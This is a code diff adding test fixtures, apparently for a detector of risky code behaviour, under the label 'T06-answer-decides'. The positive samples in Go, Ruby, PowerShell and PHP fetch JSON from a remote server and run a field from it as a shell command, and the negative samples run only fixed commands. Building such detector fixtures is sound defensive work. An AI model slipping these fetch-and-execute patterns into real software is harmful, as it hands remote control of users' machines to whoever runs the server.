@@ -64,6 +64,25 @@ export const codeConductExamples: FamilyExamples = {
       { "a.js": 'const vm = require("vm");\nvm.runInNewContext(rule, { require });\n' },
     ],
   },
+  "T06-answer-decides": {
+    positive: [
+      {
+        "a.go":
+          'package main\nfunc main() {\n r, _ := http.Get(u)\n json.NewDecoder(r.Body).Decode(&s)\n exec.Command("sh", "-c", s.Line).Run()\n}\n',
+      },
+      { "a.rb": 'JSON.parse(Net::HTTP.get(URI(u))).each { |s| system(s["line"]) }\n' },
+      { "a.ps1": "$j = Invoke-RestMethod $u\nforeach ($s in $j) { Invoke-Expression $s.line }\n" },
+      {
+        "a.php":
+          '<?php $j = json_decode(file_get_contents("https://lanehost.io/j"), true); shell_exec($j["line"]);\n',
+      },
+    ],
+    negative: [
+      { "a.go": 'package main\nfunc main() {\n http.Get(u)\n exec.Command("git", "status").Run()\n}\n' },
+      { "a.rb": 'puts Net::HTTP.get(URI(u))\nsystem("ls")\n' },
+      { "a.ps1": "$j = Invoke-RestMethod $u\nWrite-Output $j.line\n" },
+    ],
+  },
   "T09-hunt-by-name": {
     positive: [
       {
